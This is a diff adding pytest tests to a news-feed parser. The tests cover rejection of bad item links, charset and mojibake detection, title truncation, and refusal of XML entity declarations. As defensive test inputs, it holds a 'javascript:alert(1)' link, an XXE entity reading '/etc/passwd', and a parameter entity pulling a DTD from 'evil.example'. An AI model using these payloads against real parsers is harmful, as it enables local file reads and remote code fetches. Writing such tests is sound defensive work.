@@ -7,7 +7,23 @@ import re
 import pytest
 
 from pipeline.errors import BadContent, PermanentError
-from pipeline.fetch import ParsedFeed, canonical_url, check_article, parse_feed, story_id_for
+from pipeline.fetch import (
+    CHARSET_OVERRIDE,
+    CHARSET_UNCLEAN,
+    ITEM_REJECTED,
+    ITEM_TRUNCATED,
+    MAX_TITLE_CHARS,
+    TITLE_CUT,
+    ParsedFeed,
+    canonical_url,
+    check_article,
+    decode_feed,
+    garbled,
+    parse_feed,
+    story_id_for,
+    trace_id_for,
+    utf8_mojibake,
+)
 from pipeline.ports import HttpResponse
 
 FEED_URL = "https://news.example.org/feeds/world/rss.xml"
@@ -244,8 +260,11 @@ def test_rss_entry_without_link_uses_http_guid(rss_feed: ParsedFeed) -> None:
 
 def test_rss_entry_without_any_link_is_a_problem(rss_feed: ParsedFeed) -> None:
     assert len(rss_feed.problems) == 1
-    assert "without a link" in rss_feed.problems[0]
-    assert "Entry with nothing to point at" in rss_feed.problems[0]
+    problem = rss_feed.problems[0]
+    assert problem.kind == ITEM_REJECTED
+    assert "without a link" in problem.detail
+    assert "Entry with nothing to point at" in problem.detail
+    assert problem.link == "" and problem.trace_id == ""  # nothing to trace it under
 
 
 def test_atom_feed() -> None:
@@ -276,6 +295,9 @@ def test_rss_non_http_link_is_a_problem_not_a_crash() -> None:
     feed = parse_feed(body, FEED_URL)
     assert [e.title for e in feed.entries] == ["Good"]
     assert len(feed.problems) == 1
+    assert feed.problems[0].kind == ITEM_REJECTED
+    assert feed.problems[0].link == "javascript:alert(1)"
+    assert "not an http(s) URL" in feed.problems[0].detail
 
 
 HTML_PAGE = b"""<!DOCTYPE html>
@@ -338,3 +360,176 @@ def test_check_article_wrong_type_is_bad_content(ctype: str) -> None:
 def test_check_article_empty_body_is_bad_content(body: bytes) -> None:
     with pytest.raises(BadContent):
         check_article(_resp(body=body))
+
+
+# --- per-item isolation ---------------------------------------------------------------------------
+
+
+def _rss(items: str, encoding: str = "utf-8", title: str = "Mixed Desk") -> str:
+    return (
+        f'<?xml version="1.0" encoding="{encoding}"?><rss version="2.0"><channel><title>{title}</title>'
+        f"<link>https://news.example.org/</link>{items}</channel></rss>"
+    )
+
+
+def _item(title: str, link: str, summary: str = "A short summary of the story.") -> str:
+    return f"<item><title>{title}</title><link>{link}</link><description>{summary}</description></item>"
+
+
+GOOD_ITEMS = [
+    _item("Riga port reopens after storm", "https://news.example.org/riga-port"),
+    _item("Tallinn tram line extended", "https://news.example.org/tallinn-tram"),
+]
+
+
+@pytest.mark.parametrize(
+    ("bad", "reason"),
+    [
+        (_item("Broken IPv6 link", "http://[2001:db8::1/story"), "malformed URL"),
+        (_item("Script link", "javascript:alert(1)"), "not an http(s) URL"),
+        (_item("No host", "http://:80/x"), "has no host"),
+        (_item("Bad port", "http://news.example.org:99999/x"), "malformed URL"),
+        (_item("No link at all", ""), "without a link"),
+        # (a Latin-1 reading feedparser repairs itself; a windows-1252 one it cannot)
+        (_item("Minister says â€œno dealâ€ is off the table", "https://news.example.org/mojibake"), "garbled title"),
+        (_item("Replacement \ufffd char", "https://news.example.org/fffd"), "garbled title: it contains U+FFFD"),
+        (_item("Fine title", "https://news.example.org/garbled-summary", "Ìýðèÿ Ñàíêò-Ïåòåðáóðãà îòêðûëà íîâûé ìîñò"),
+         "garbled summary"),
+    ],
+    ids=["ipv6-malformed", "javascript", "no-host", "bad-port", "no-link", "utf8-mojibake", "fffd", "cp1251-as-1252"],
+)
+def test_one_bad_item_is_rejected_and_the_rest_arrive(bad: str, reason: str) -> None:
+    body = _rss(GOOD_ITEMS[0] + bad + GOOD_ITEMS[1]).encode()
+    feed = parse_feed(body, FEED_URL)
+    assert [e.url for e in feed.entries] == ["https://news.example.org/riga-port", "https://news.example.org/tallinn-tram"]
+    assert [p.kind for p in feed.problems] == [ITEM_REJECTED]
+    assert reason in feed.problems[0].detail, feed.problems[0].detail
+    assert feed.rejected == feed.problems
+
+
+def test_valid_ipv6_link_keeps_its_brackets_and_its_id() -> None:
+    url = canonical_url("http://[2001:DB8::1]:8080/story?utm_source=x")
+    assert url == "http://[2001:db8::1]:8080/story"
+    assert story_id_for(url) == story_id_for("http://[2001:db8::1]:8080/story#top")
+    feed = parse_feed(_rss(_item("IPv6 host", "http://[2001:db8::1]/a") + GOOD_ITEMS[0]).encode(), FEED_URL)
+    assert [e.url for e in feed.entries] == ["http://[2001:db8::1]/a", "https://news.example.org/riga-port"]
+    assert feed.problems == ()
+
+
+def test_rejected_item_carries_the_id_trace_finds_it_under() -> None:
+    feed = parse_feed(_rss(_item("Bad", "http://[::1") + GOOD_ITEMS[0]).encode(), FEED_URL)
+    (problem,) = feed.rejected
+    assert problem.link == "http://[::1"
+    assert problem.trace_id == trace_id_for("http://[::1")
+    assert re.fullmatch(r"[0-9a-f]{32}", problem.trace_id)
+    # a link that canonicalises is traced under its story id
+    assert trace_id_for("https://NEWS.example.org/a?utm_source=x") == story_id_for("https://news.example.org/a")
+
+
+def test_long_title_is_cut_with_a_recorded_reason() -> None:
+    feed = parse_feed(_rss(_item("Long " * 400, "https://news.example.org/long", "Word " * 600)).encode(), FEED_URL)
+    (entry,) = feed.entries
+    assert len(entry.title) == MAX_TITLE_CHARS
+    kinds = {p.kind: p for p in feed.problems}
+    assert set(kinds) == {TITLE_CUT, ITEM_TRUNCATED}
+    assert "title cut from 1999 to 1000 characters" in kinds[TITLE_CUT].detail
+    assert kinds[TITLE_CUT].trace_id == entry.story_id
+    assert "summary cut from 2999 to 2000" in kinds[ITEM_TRUNCATED].detail
+
+
+# --- charsets ----------------------------------------------------------------------------------------
+
+CYRILLIC = "Мэрия Санкт-Петербурга открыла новый мост через Неву"
+GREEK = "Η κυβέρνηση ανακοίνωσε νέα μέτρα για την ενέργεια στην Αθήνα"
+CJK = "北京市政府宣布新的交通措施，地铁将延长运营时间"
+
+
+@pytest.mark.parametrize(
+    ("text", "encoding", "declared"),
+    [
+        (CYRILLIC, "cp1251", "utf-8"),
+        (CYRILLIC, "utf-8", "windows-1252"),
+        (CYRILLIC, "cp1251", "windows-1252"),
+        (GREEK, "iso-8859-7", "utf-8"),
+        (GREEK, "utf-8", "iso-8859-1"),
+        (CJK, "utf-8", "windows-1252"),
+        ("Mańkowski re-elected mayor of Łódź", "utf-8", "iso-8859-1"),
+    ],
+)
+def test_wrong_declaration_is_overridden_and_recorded(text: str, encoding: str, declared: str) -> None:
+    body = _rss(_item(text, "https://news.example.org/a", text), encoding=declared, title=text).encode(encoding)
+    feed = parse_feed(body, FEED_URL, f"application/rss+xml; charset={declared}")
+    assert feed.title == text
+    assert [(e.title, e.summary) for e in feed.entries] == [(text, text)]
+    (problem,) = feed.problems
+    assert problem.kind == CHARSET_OVERRIDE
+    assert problem.detail.startswith("declared ")
+
+
+def test_right_declaration_is_kept_without_a_problem() -> None:
+    body = _rss(_item(CYRILLIC, "https://news.example.org/a"), encoding="windows-1251").encode("cp1251")
+    decoded = decode_feed(body, "application/rss+xml; charset=windows-1251")
+    assert (decoded.encoding, decoded.declared, decoded.clean) == ("cp1251", "cp1251", True)
+    assert parse_feed(body, FEED_URL, "application/rss+xml; charset=windows-1251").problems == ()
+
+
+def test_mixed_bytes_reject_only_the_damaged_items() -> None:
+    """UTF-8 items and one windows-1251 item in one document: no decoding is clean for all of them."""
+    good = _item(CYRILLIC, "https://news.example.org/good").encode()
+    bad = _item("Паромное сообщение с Кронштадтом возобновлено", "https://news.example.org/cp1251").encode("cp1251")
+    head, tail = _rss("|").encode().split(b"|")
+    feed = parse_feed(head + good + bad + tail, FEED_URL, "application/rss+xml; charset=utf-8")
+    assert [e.url for e in feed.entries] == ["https://news.example.org/good"]
+    assert feed.entries[0].title == CYRILLIC
+    kinds = [p.kind for p in feed.problems]
+    assert CHARSET_UNCLEAN in kinds and kinds.count(ITEM_REJECTED) == 1
+    assert "U+FFFD" in feed.rejected[0].detail and feed.rejected[0].link == "https://news.example.org/cp1251"
+
+
+@pytest.mark.parametrize("text", [CYRILLIC, GREEK, CJK, "Besançon et Genève", "naïve café résumé"])
+def test_mojibake_check_finds_wrong_readings_and_passes_clean_text(text: str) -> None:
+    assert garbled(text) is None
+    for wrong in ("cp1252", "latin-1"):
+        reading = text.encode().decode(wrong, errors="replace")
+        assert garbled(reading) is not None, reading
+    assert utf8_mojibake(text.encode().decode("latin-1")) is not None
+
+
+@pytest.mark.parametrize(
+    "text", ["Q&A: what's next for the €2bn deal?", "NATO — 75 years on: “Article 5” explained", "Ø 5,2 km² • 12 °C",
+             "Straßenbahn nach Örlikon fährt wieder", "»Wir bleiben«, sagt der Bürgermeister"]
+)
+def test_mojibake_check_leaves_ordinary_punctuation_alone(text: str) -> None:
+    assert garbled(text) is None
+
+
+# --- entity declarations -----------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "doctype",
+    [
+        '<!DOCTYPE rss [<!ENTITY nbsp "&#160;">]>',
+        '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>',
+        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
+        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>',
+        '<!doctype rss [\n  <!entity a "b">\n]>',
+    ],
+    ids=["harmless", "nested", "external", "parameter", "lower-case"],
+)
+def test_entity_declarations_are_refused(doctype: str) -> None:
+    body = _rss(_item("Title &a;", "https://news.example.org/a")).replace("<rss", doctype + "<rss", 1).encode()
+    with pytest.raises(BadContent, match=r"declares \d+ entit(y|ies) in an internal DTD"):
+        parse_feed(body, FEED_URL)
+
+
+def test_public_doctype_without_entities_is_fine() -> None:
+    doctype = '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://example.org/rss-0.91.dtd">'
+    body = _rss(_item("Old-style feed", "https://news.example.org/a")).replace("<rss", doctype + "<rss", 1).encode()
+    assert [e.title for e in parse_feed(body, FEED_URL).entries] == ["Old-style feed"]
+
+
+def test_entity_text_inside_an_item_is_not_a_declaration() -> None:
+    body = _rss(_item("XML tips", "https://news.example.org/a", "Write &lt;!ENTITY x 'y'&gt; in a DTD")).encode()
+    (entry,) = parse_feed(body, FEED_URL).entries
+    assert "!ENTITY x 'y'" in entry.summary
